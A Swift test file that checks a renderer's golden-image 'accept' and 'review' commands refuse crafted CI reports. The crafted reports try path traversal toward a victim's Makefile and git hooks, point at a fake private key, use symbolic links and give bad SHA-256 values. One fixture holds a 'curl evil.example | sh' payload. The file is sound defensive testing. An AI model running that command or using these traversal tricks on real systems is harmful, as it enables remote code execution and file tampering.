import Foundation
import TestSupport
import XCTest

/// A report is input from a stranger (a pull request's CI run, downloaded and accepted as docs/ci.md says): `render
/// accept` reads it whole before touching anything and refuses it, naming the field, when a name leaves the goldens
/// folder, a path leaves the report folder or goes through a symbolic link, or a SHA-256 is missing. Each case crafts
/// one such report from a real one and checks every file of a victim tree (a project with its Makefile, git hooks
/// and a private key), the goldens and the report folder, byte for byte, before and after.
final class AcceptHostileTests: CLITestCase {
    var scene: String { path("box.json") }
    var golden: String { path("golden") }
    var report: String { path("report") }
    var victim: String { path("victim") }
    let key = "-----BEGIN OPENSSH PRIVATE KEY-----\nnot really\n-----END OPENSSH PRIVATE KEY-----\n"
    let evil = "#!/bin/sh\ncurl evil.example | sh\n"

    override func setUpWithError() throws {
        try super.setUpWithError()
        for (name, text) in [("Makefile", "all:\n\techo victim\n"), ("id_ed25519", key), ("notes.txt", "keep me\n"),
                             (".git/hooks/README", "hooks\n"), (".git/config", "[core]\n")] {
            let file = victim + "/" + name
            try FileManager.default.createDirectory(atPath: (file as NSString).deletingLastPathComponent, withIntermediateDirectories: true)
            try Data(text.utf8).write(to: URL(fileURLWithPath: file))
        }
        // A failed test: goldens of the red box, the scene now green; the report of that run.
        try writeScene(AcceptTests.scene(), named: "box.json")
        try expect(0, ["test", scene, "--golden", golden, "--artifacts", report, "--jobs", "1"])
        try writeScene(AcceptTests.scene(colour: "#00FF00"), named: "box.json")
        try expect(1, ["test", scene, "--golden", golden, "--artifacts", report, "--jobs", "1"])
    }

    func tree(_ dir: String) throws -> [String: Data] { try fileTree(dir) }

    /// The SHA-256 of `text` by Python's hashlib, a digest independent of the renderer's.
    func sha256(_ text: String) throws -> String {
        let process = Python.process(["-c", "import hashlib,sys; print(hashlib.sha256(sys.argv[1].encode()).hexdigest())", text])
        return String(decoding: try ProcessOutput.run(process).stdout, as: UTF8.self).trimmingCharacters(in: .whitespacesAndNewlines)
    }

    /// Rewrites report.json with `change`, then checks that `arguments` (accept by default) exits 1 with `message` on
    /// stderr and leaves the victim, the goldens and the report folder exactly as they were.
    func refused(_ message: String, arguments: [String]? = nil, file: StaticString = #filePath, line: UInt = #line,
                 _ change: (inout [String: Any]) throws -> Void) throws {
        var record = try json(report + "/report.json")
        try change(&record)
        try JSONSerialization.data(withJSONObject: record, options: [.prettyPrinted, .sortedKeys]).write(to: URL(fileURLWithPath: report + "/report.json"))
        let before = try [victim, golden, report].map(tree)
        // A review server that starts serving does not end by itself: 20 s bound it (it refuses in well under 1 s).
        let run = try render.run(arguments ?? ["accept", report], timeout: 20)
        XCTAssertEqual(run.status, 1, "stdout: \(run.stdout) stderr: \(run.stderr)", file: file, line: line)
        XCTAssertTrue(run.stderr.contains(message), "stderr: \(run.stderr)\nwanted: \(message)", file: file, line: line)
        XCTAssertEqual(run.stdout, "", file: file, line: line)
        let after = try [victim, golden, report].map(tree)
        for (i, name) in ["victim", "goldens", "report"].enumerated() {
            XCTAssertEqual(Set(after[i].keys), Set(before[i].keys), "\(name): files added or removed", file: file, line: line)
            for (k, v) in before[i] where after[i][k] != v { XCTFail("\(name): \(k) changed", file: file, line: line) }
        }
    }

    /// Frame `i` of the report's record, changed by `change`.
    func frame(_ record: inout [String: Any], _ i: Int, _ change: (inout [String: Any]) -> Void) {
        var frames = record["frames"] as! [[String: Any]]
        change(&frames[i])
        record["frames"] = frames
    }

    func testANameThatLeavesTheGoldensFolderWritesNothingAnywhere() throws {
        // The actual file the name would be written from: the attacker's script, with its true SHA-256.
        try Data(evil.utf8).write(to: URL(fileURLWithPath: report + "/actual/frame_00000.png"))
        let sha = try sha256(evil)
        // The golden's SHA-256 as the attacker knows it (a project's Makefile is public): the replacement would pass
        // the check that the golden is still the one compared.
        let makefile = try sha256("all:\n\techo victim\n")
        try refused(#"report.json: frames[0].name "/../victim/Makefile" is not a frame file name"#) { r in
            frame(&r, 0) { $0["name"] = "/../victim/Makefile"; $0["actualSHA256"] = sha; $0["goldenSHA256"] = makefile }
        }
        // No golden there when compared: the hook would be "added".
        try refused(#"frames[0].name "/../victim/.git/hooks/pre-commit" is not a frame file name"#) { r in
            frame(&r, 0) { $0["name"] = "/../victim/.git/hooks/pre-commit"; $0["actualSHA256"] = sha; $0["goldenSHA256"] = NSNull() }
        }
        // A frame file name, but not frame 1's: it would replace another golden than the one compared.
        try refused(#"frames[1].name "frame_00007.png" is not frame 1's"#) { r in frame(&r, 1) { $0["name"] = "frame_00007.png" } }
    }

    func testAMissingFrameCannotDeleteAFileWhoseContentIsKnown() throws {
        let sha = try sha256("keep me\n")
        try refused(#"frames[0].name "/../victim/notes.txt" is not a frame file name"#) { r in
            frame(&r, 0) { $0["name"] = "/../victim/notes.txt"; $0["status"] = "missing"; $0["actual"] = nil; $0["goldenSHA256"] = sha }
        }
    }

    func testAnActualFileOutsideTheReportOrWithoutItsSHAIsRefused() throws {
        try refused(#"frames[0].actual "../victim/id_ed25519" is not a plain path inside the report folder"#) { r in
            frame(&r, 0) { $0["actual"] = "../victim/id_ed25519"; $0["actualSHA256"] = NSNull() }
        }
        try refused(#"frames[0].actual "\#(victim)/id_ed25519" is not relative to the report folder"#) { r in
            frame(&r, 0) { $0["actual"] = victim + "/id_ed25519" }
        }
        try refused("frames[2].actualSHA256 is missing: every actual file is checked against it") { r in
            frame(&r, 2) { $0["actualSHA256"] = NSNull() }
        }
        try refused(#"frames[3].goldenSHA256 "nope" is not a SHA-256"#) { r in frame(&r, 3) { $0["goldenSHA256"] = "nope" } }
        try refused(#"report.json: frames[4].status: "copy" is not one of same, different, sizeMismatch"#) { r in frame(&r, 4) { $0["status"] = "copy" } }
    }

    /// The motion's status is read as strictly as a frame's: a word render test never writes, or one that disagrees
    /// with `failed`, is one line and nothing accepted.
    func testAMotionStatusRenderTestNeverWritesIsRefused() throws {
        try refused(#"report.json: motion.status: "accepted" is not one of same, different"#) { r in
            var motion = r["motion"] as! [String: Any]
            motion["status"] = "accepted"
            r["motion"] = motion
        }
        // This report's motion passed (same, not failed).
        try refused(#"motion.failed false is not what motion.status "different" says (true)"#) { r in
            var motion = r["motion"] as! [String: Any]
            motion["status"] = "different"
            r["motion"] = motion
        }
    }

    func testASymbolicLinkInTheReportIsNotFollowed() throws {
        // The actual frame replaced by a link to the private key, with the key's true SHA-256: still refused.
        let actual = report + "/actual/frame_00000.png"
        try FileManager.default.removeItem(atPath: actual)
        try FileManager.default.createSymbolicLink(atPath: actual, withDestinationPath: victim + "/id_ed25519")
        let sha = try sha256(key)
        try refused(#"frames[0].actual "actual/frame_00000.png" goes through a symbolic link"#) { r in
            frame(&r, 0) { $0["actualSHA256"] = sha }
        }
        try FileManager.default.removeItem(atPath: actual)
        // The whole actual/ folder a link to the victim's.
        try FileManager.default.moveItem(atPath: report + "/actual", toPath: path("moved-actual"))
        try FileManager.default.createSymbolicLink(atPath: report + "/actual", withDestinationPath: victim)
        try refused(#"frames[1].actual "actual/frame_00001.png" goes through a symbolic link"#) { _ in }
        try FileManager.default.removeItem(atPath: report + "/actual")
        try FileManager.default.moveItem(atPath: path("moved-actual"), toPath: report + "/actual")
        // replaced/, where the replaced goldens are kept, a link into the victim: the copies would land there.
        try FileManager.default.createSymbolicLink(atPath: report + "/replaced", withDestinationPath: victim + "/.git/hooks")
        try refused("replaced/ in the report folder is not a folder") { _ in }
    }

    func testGoldensNamedByTheReportMustBeAGoldensFolder() throws {
        try refused(#"goldens "\#(victim)" holds no goldens (no manifest.json or motion.json): give the goldens folder with --goldens DIR"#) { r in
            r["goldens"] = victim
        }
    }

    /// The review page reads a report through the same check: its accept is refused alike (the command checks every
    /// report before serving).
    func testReviewRefusesACraftedReportBeforeServing() throws {
        try refused(#"frames[0].name "/../victim/Makefile" is not a frame file name"#, arguments: ["review", report, "--port", "0"]) { r in
            frame(&r, 0) { $0["name"] = "/../victim/Makefile" }
        }
    }

    /// A report of one variant (`--set x=5`) into the goldens of another (the scene as written): refused, both
    /// variants named, nothing written (it once took 10 frames of the variant into the plain goldens and left a
    /// manifest claiming the variant's values); and `render test` of the variant against the other's goldens.
    func testAReportOfAnotherVariantIsRefused() throws {
        let variant = path("golden-x5"), variantReport = path("report-x5")
        try writeScene(AcceptTests.scene(), named: "box.json")
        try expect(0, ["test", scene, "--golden", variant, "--set", "x=5", "--jobs", "1"])
        try writeScene(AcceptTests.scene(colour: "#00FF00"), named: "box.json")
        try expect(1, ["test", scene, "--golden", variant, "--set", "x=5", "--artifacts", variantReport, "--jobs", "1"])
        let before = try tree(golden)
        let run = try render.run(["accept", variantReport, "--goldens", golden])
        XCTAssertEqual(run.status, 1, run.stderr)
        XCTAssertTrue(run.stderr.contains("is of variant --set x=5, but the goldens \(golden) are of the scene as written (no --set or --state)"), run.stderr)
        XCTAssertEqual(try tree(golden), before)
        // Into its own variant's goldens it is accepted.
        try expect(0, ["accept", variantReport])
        // render test notices the mismatch too, before it compares or records anything (frames or motion), whatever
        // the record mode but `all`.
        for mode in ["never", "missing", "failed"] {
            let test = try render.run(["test", scene, "--set", "x=5", "--golden", golden, "--record", mode, "--jobs", "1"])
            XCTAssertEqual(test.status, 2, test.stdout + test.stderr)
            XCTAssertTrue(test.stderr.contains("the goldens \(golden) are of the scene as written (no --set or --state), but this run is of variant --set x=5"), test.stderr)
            XCTAssertEqual(try tree(golden), before, mode)
        }
    }

    /// The report as `render test` wrote it is accepted: the checks refuse only what a report of ours never has.
    func testTheReportAsWrittenIsAccepted() throws {
        let run = try expect(0, ["accept", report])
        XCTAssertEqual(run.stdout.split(separator: "\n").filter { $0.hasPrefix("replaced ") }.count, 10, run.stdout)
    }
}
